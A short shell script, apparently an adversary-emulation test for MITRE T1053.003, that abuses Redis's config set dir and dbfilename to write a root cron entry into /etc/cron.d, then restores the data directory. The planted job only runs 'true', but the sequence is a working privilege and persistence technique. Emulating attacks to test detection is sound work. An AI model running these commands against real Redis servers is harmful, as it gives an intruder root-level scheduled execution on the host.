# workload: redis
# technique: T1053.003
# finds: /etc/cron.d
redis-cli -p 16379 config set dir /etc/cron.d
redis-cli -p 16379 config set dbfilename update
redis-cli -p 16379 set job '* * * * * root true'
redis-cli -p 16379 save
redis-cli -p 16379 config set dir /data
